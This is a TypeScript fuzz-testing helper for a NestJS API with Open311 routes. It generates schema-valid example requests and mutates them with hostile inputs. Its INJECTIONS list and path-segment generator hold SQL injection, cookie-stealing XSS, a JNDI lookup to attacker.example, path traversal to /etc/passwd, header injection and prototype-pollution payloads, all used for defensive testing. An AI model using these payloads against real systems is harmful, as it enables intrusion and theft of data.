import { randomUUID } from 'node:crypto';
import { INestApplication } from '@nestjs/common';
import fc from 'fast-check';
import { z } from 'zod';
import { RouteCatalog, RouteInfo } from '../../../apps/api/src/openapi/openapi.builder';

/**
 * Inputs for suites generated from the API's own route list: a plausible
 * example for each zod schema (so a request gets past validation to the data)
 * and fast-check arbitraries of hostile values around it.
 */

export type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  format?: string;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  default?: unknown;
  pattern?: string;
};

export function routesOf(api: INestApplication): RouteInfo[] {
  return api.get(RouteCatalog).routes();
}

export function toJsonSchema(schema: z.ZodType | undefined): JsonSchema | undefined {
  if (!schema) return undefined;
  try {
    return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  } catch {
    return {};
  }
}

/** Field names of an object schema (merged over unions and intersections). */
export function fieldsOf(schema: JsonSchema | undefined): string[] {
  if (!schema) return [];
  const names = new Set<string>(Object.keys(schema.properties ?? {}));
  for (const part of [...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])]) for (const name of fieldsOf(part)) names.add(name);
  return [...names];
}

export interface ExampleHints {
  /** Values by field name (ids of the tenant under test, a point inside it, …). */
  byName?: Record<string, unknown>;
}

/** A value that satisfies the schema as far as a JSON Schema can say (refinements aside). */
export function exampleOf(schema: JsonSchema | undefined, hints: ExampleHints = {}, name = ''): unknown {
  if (!schema) return undefined;
  if (name && hints.byName && name in hints.byName) return hints.byName[name];
  if (schema.const !== undefined) return schema.const;
  if (schema.enum?.length) return schema.enum[0];
  if (schema.default !== undefined) return schema.default;
  const union = schema.anyOf ?? schema.oneOf;
  if (union?.length) return exampleOf(union.find((option) => option.type !== 'null') ?? union[0], hints, name);
  if (schema.allOf?.length) {
    return Object.assign({}, ...schema.allOf.map((part) => exampleOf(part, hints, name)).filter((value) => value && typeof value === 'object'));
  }
  const type = Array.isArray(schema.type) ? schema.type.find((candidate) => candidate !== 'null') : schema.type;
  switch (type) {
    case 'object': {
      const result: Record<string, unknown> = {};
      for (const [key, property] of Object.entries(schema.properties ?? {})) {
        const value = exampleOf(property, hints, key);
        if (value !== undefined && (schema.required?.includes(key) || (hints.byName && key in hints.byName))) result[key] = value;
      }
      return result;
    }
    case 'array':
      return Array.from({ length: schema.minItems ?? 0 }, () => exampleOf(schema.items, hints, name));
    case 'integer':
    case 'number':
      return schema.minimum !== undefined ? Math.max(schema.minimum, Math.min(1, schema.maximum ?? 1)) : Math.min(1, schema.maximum ?? 1);
    case 'boolean':
      return true;
    case 'string': {
      if (schema.format === 'uuid') return randomUUID();
      if (schema.format === 'email') return 'someone@example.org';
      if (schema.format === 'date-time') return new Date().toISOString();
      if (schema.format === 'date') return new Date().toISOString().slice(0, 10);
      const length = Math.max(schema.minLength ?? 1, Math.min(schema.maxLength ?? 8, 8));
      return 'abcdefgh'.repeat(Math.ceil(length / 8)).slice(0, length);
    }
    default:
      return name ? 'x' : undefined;
  }
}

export const INJECTIONS = [
  "' OR '1'='1' --",
  "'; DROP TABLE reports; --",
  "1; SELECT pg_sleep(5)--",
  "' UNION SELECT email, name FROM report_contacts --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u0644\u0627',
  'ﷺ'.repeat(500),
  '💩'.repeat(1000),
  '__proto__',
  'constructor',
  '\r\nSet-Cookie: injected=1',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x1F',
  ' ',
  '',
];

/** Self-intersecting (bow-tie) and other broken geometries. */
export const BAD_GEOMETRIES = [
  { type: 'Polygon', coordinates: [[[10, 50], [11, 51], [11, 50], [10, 51], [10, 50]]] },
  { type: 'Polygon', coordinates: [[[10, 50], [11, 51]]] },
  { type: 'Polygon', coordinates: [[[10, 50], [200, 95], [11, 50], [10, 50]]] },
  { type: 'MultiPolygon', coordinates: [[[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]] },
  { type: 'Point', coordinates: [Number.MAX_VALUE, -Number.MAX_VALUE] },
  { type: 'GeometryCollection', geometries: [] },
];

export const OUT_OF_RANGE_NUMBERS = [91, -91, 181, -181, 90.0000001, 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER + 2, -2147483649, 2147483648, 32768];

/** Any hostile scalar or structure. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { depthSize: 'small' },
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(...OUT_OF_RANGE_NUMBERS),
  fc.constantFrom(...BAD_GEOMETRIES),
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'binary', minLength: 4001, maxLength: 6000 }),
  fc.constant('x'.repeat(70_000)),
  fc.array(fc.string({ maxLength: 10 }), { maxLength: 5 }),
  fc.array(fc.constantFrom(...INJECTIONS), { minLength: 60, maxLength: 80 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 4 }),
  fc.constant({ __proto__: { polluted: true } }),
  fc.uuid().map(String),
);

/** A body for a route: the example with some fields replaced, dropped or added, or something else entirely. */
export function hostileBody(schema: JsonSchema | undefined, example: unknown, extraFields: string[] = []): fc.Arbitrary<unknown> {
  const fields = [...new Set([...fieldsOf(schema), ...extraFields])];
  const base = example && typeof example === 'object' ? (example as Record<string, unknown>) : {};
  const mutated =
    fields.length === 0
      ? fc.constant(base)
      : fc
          .record({
            replace: fc.uniqueArray(fc.constantFrom(...fields), { minLength: 1, maxLength: Math.min(3, fields.length) }),
            drop: fc.uniqueArray(fc.constantFrom(...fields), { maxLength: 2 }),
            values: fc.array(hostileValue, { minLength: 3, maxLength: 3 }),
            extra: fc.option(fc.tuple(fc.string({ maxLength: 12 }), hostileValue), { nil: undefined }),
          })
          .map(({ replace, drop, values, extra }) => {
            const body: Record<string, unknown> = { ...base };
            for (const field of drop) delete body[field];
            replace.forEach((field, index) => (body[field] = values[index]));
            if (extra) body[extra[0]] = extra[1];
            return body;
          });
  return fc.oneof({ weight: 6, arbitrary: mutated }, { weight: 1, arbitrary: hostileValue });
}

/** encodeURIComponent, except that lone surrogates become the (invalid) UTF-8 bytes of their code unit instead of throwing. */
export function encodeLoose(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return [...value]
      .map((char) => {
        const code = char.charCodeAt(0);
        if (char.length === 1 && code >= 0xd800 && code <= 0xdfff) return `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 63)).toString(16)}%${(0x80 | (code & 63)).toString(16)}`.toUpperCase();
        return encodeURIComponent(char);
      })
      .join('');
  }
}

/** Query strings can only carry text: every value becomes a string (arrays repeat the key). */
export function toQueryString(value: unknown): string {
  if (!value || typeof value !== 'object' || Array.isArray(value)) return `q=${encodeLoose(String(value))}`;
  const parts: string[] = [];
  for (const [key, entry] of Object.entries(value as Record<string, unknown>)) {
    if (entry === undefined) continue;
    const entries = Array.isArray(entry) ? entry : [entry];
    for (const item of entries) parts.push(`${encodeLoose(key)}=${encodeLoose(typeof item === 'object' && item !== null ? JSON.stringify(item) : String(item))}`);
  }
  return parts.join('&');
}

/** Path segments: hostile text, percent-encoded (the router still sees `..`, `%00` and friends). */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS.filter((value) => value !== '')).map(encodeLoose),
  fc.constantFrom('..', '%2e%2e', '..%2f..%2fetc%2fpasswd', '%c0%ae%c0%ae', '%ff%fe', 'a'.repeat(3000), '0', '-1', '99999999999999999999'),
  fc.string({ minLength: 1, maxLength: 30 }).map(encodeLoose),
  fc.uuid().map(String),
);

/** Fields Open311 clients send (the Open311 controllers take records, not zod schemas). */
export const OPEN311_FIELDS = [
  'jurisdiction_id', 'api_key', 'service_code', 'lat', 'long', 'address_string', 'address_id', 'description', 'email', 'first_name', 'last_name', 'phone',
  'device_id', 'account_id', 'media_url', 'attribute[size]', 'service_request_id', 'start_date', 'end_date', 'status', 'updated_datetime', 'update_id', 'status_notes',
];

/** Concrete path of a route, with the given values for its parameters. */
export function fillPath(route: RouteInfo, values: Record<string, string>): string {
  return route.path
    .replace(/\*[A-Za-z0-9_]+/g, () => values['*'] ?? 'anything')
    .replace(/:([A-Za-z0-9_]+)/g, (_, name: string) => values[name] ?? randomUUID());
}

/** Parameter names in a route path (format suffixes like `.:format` included). */
export function pathParams(route: RouteInfo): string[] {
  return [...route.path.matchAll(/:([A-Za-z0-9_]+)/g)].map((match) => match[1]);
}
